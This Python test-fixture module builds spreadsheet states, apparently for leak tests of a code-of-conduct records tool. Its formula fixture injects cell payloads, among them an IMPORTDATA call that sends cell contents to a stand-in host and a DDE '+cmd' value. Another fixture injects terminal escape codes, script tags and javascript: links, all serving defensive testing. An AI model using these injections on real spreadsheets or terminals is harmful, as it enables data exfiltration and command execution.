"""The kinds of book: every state of a spreadsheet that a command may meet."""

from collections.abc import Callable

from sheets_coc.schema.columns import BY_KEY
from sheets_coc.schema.layouts import BY_NAME
from tests.leaks.canaries import Canaries, plain
from tests.leaks.contents import ALL, CASES, OWN, PLAIN, TEN, Tabs, members, records


def _fine(canaries: Canaries) -> Tabs:
    rows = records(canaries, ALL)
    said = rows[1][ALL.index("subjects")].split(";")[0]
    gone = [[canaries.text("another tab"), f"{said} again"], [canaries.text("another tab"), ""]]
    return [
        ("Records", rows),
        *members(canaries),
        (canaries.word("tab title", "title"), gone),
        (f"About {said}", [[canaries.text("another tab"), f"{said} once more"]]),
    ]


def _ten(canaries: Canaries) -> Tabs:
    return [("Records", records(canaries, TEN)), *members(canaries)]


def _everything(canaries: Canaries) -> Tabs:
    """A canary in every cell, dates, decisions and case names included."""
    rows = [[canaries.text(f"Records {key}") for key in (*ALL, OWN)] for _ in range(5)]
    kept = [row[:] for row in rows]
    for row in kept:
        row[ALL.index("reported_on")] = "2025-01-15"
    header = [*(BY_KEY[key].header for key in ALL), OWN]
    others = [(title, [table[0], *[[canaries.text(title, "member") for _ in row]
                                   for row in table[1:]]])
              for title, table in members(canaries)]  # fmt: skip
    return [("Records", [header, *rows, *kept]), *others]


def _formulas(canaries: Canaries) -> Tabs:
    rows = records(canaries, ALL)
    told = ("=IMPORTDATA(\"https://{}.example/\"&B2)", '="{}"&B2', "=HYPERLINK(\"https://{}.example\")",
            "+cmd|'{}'", "@SUM({})", "={}(", "='{}'!A1")  # fmt: skip
    for number, cells in enumerate(rows[1:]):
        for column, key in enumerate(ALL):
            if key not in ("case", *PLAIN) and cells[column]:
                cells[column] = told[(number + column) % len(told)].format(
                    canaries.word(f"formula in {key}")
                )
    return [("Records", rows), *members(canaries)]


def _no_header(canaries: Canaries) -> Tabs:
    return [("Records", [[canaries.text("no header") for _ in range(6)] for _ in range(6)])]


def _no_tab(canaries: Canaries) -> Tabs:
    # Where there are no records to compare with, nobody can tell that it names somebody.
    return [(canaries.name("only tab title", "title"), records(canaries, ALL))]


def _unclassified(canaries: Canaries) -> Tabs:
    rows = records(canaries, ALL)
    rows[0].append(canaries.name("header of an unknown column"))
    for cells in rows[1:]:
        cells.append(canaries.text("unknown column"))
    return [("Records", rows), *members(canaries)]


def _copied(canaries: Canaries) -> Tabs:
    """Rows that stand twice."""
    rows = records(canaries, ALL)
    rows += [row[:] for row in rows[1:4]]
    return [("Records", rows), *members(canaries)]


def _twice(canaries: Canaries) -> Tabs:
    """A header that stands twice."""
    rows = records(canaries, ALL)
    rows[0][ALL.index("event")] = rows[0][ALL.index("subjects")]
    return [("Records", rows), *members(canaries)]


def _odd(canaries: Canaries) -> Tabs:
    """Control characters, escapes for terminals, text right to left, very long cells."""
    rows = records(canaries, ALL)
    odd = ("\x1b]0;{}\x07", "\x1b[31m{}\x1b[0m", "\u202e{}\u202c", "{}\x00{}", "{}\u200b{}",
           "\r\nSubject: {}\r\n", "<script>{}</script>",
           "[x](javascript:{})", "{}\ud800")  # fmt: skip
    for number, cells in enumerate(rows[1:]):
        for column, key in enumerate(ALL):
            if key in ("case", *PLAIN) or not cells[column]:
                continue
            word = canaries.word(f"odd text in {key}")
            cells[column] = odd[(number + column) % len(odd) - 1].format(word, word)
    for key in ("case", "reported_on", "decision", "flag", "expunge_on"):
        word = canaries.word(f"odd text in {key}")
        rows[3][ALL.index(key)] = f"\x1b[2J{word}\u202e\n{word}"
    rows[2][ALL.index("summary")] = (canaries.text("a long cell") * 2000)[:50_000]
    return [("Records", rows), *members(canaries)]


def _bare(canaries: Canaries) -> Tabs:
    """Nothing but a header, and one row half filled."""
    rows = records(canaries, ALL)
    return [("Records", [rows[0], ["", "", canaries.name("half a row")]])]


def _of_2026(canaries: Canaries) -> Tabs:
    """The sheet of 2026 with a key: words of people in codes, case names, statuses and links."""
    keys = BY_NAME["2026"].keys
    key = [["Real Name", "Person Code Name", "Also known as", "Contacts", OWN]]
    rows = [[*(heading for _, heading in BY_NAME["2026"].headings), "Recused"]]
    for number, case in enumerate(CASES):
        name = canaries.name("key name")
        word = plain(name.split()[0])
        code = word if number in (1, 5) else f"Person {number}"
        key.append([name, code, canaries.name("key alias"), canaries.email("key contact"),
                    canaries.text("key remark")])  # fmt: skip
        link = f"https://docs.google.com/document/d/{plain(canaries.word('link'))}/edit"
        cells = {
            "reported_on": PLAIN["reported_on"][number],
            "case": f"{word}-matter" if number in (2, 5) else case,
            "person": code,
            "status": canaries.text("status") if number == 3 else "Resolved",
            "resolution_source": canaries.text("source") if number == 3 else "CoC WG",
            "safety_risk": canaries.text("risk") if number == 3 else "No",
            "ongoing_harassment": canaries.text("harassment") if number == 3 else "No",
            "decided_on": PLAIN["reported_on"][number],
            "consequence": canaries.text("consequence") if number in (3, 4) else "Warning",
            "documents": canaries.text("documents") if number == 6 else link,
        }
        recused = canaries.name("recused") if number == 0 else ""
        rows.append([*(cells.get(one, "") for one in keys), recused])
    return [("Records", rows), ("Person Identity Key", key), *members(canaries)]


KINDS: dict[str, Callable[[Canaries], Tabs]] = {
    "fine": _fine,
    "ten": _ten,
    "everything": _everything,
    "formulas": _formulas,
    "no-header": _no_header,
    "no-tab": _no_tab,
    "unclassified": _unclassified,
    "copied": _copied,
    "twice": _twice,
    "odd": _odd,
    "bare": _bare,
    "of-2026": _of_2026,
}
STATES = (*KINDS, "no-spreadsheet", "foreign", "missing")
"""Every kind of book, and what is none."""
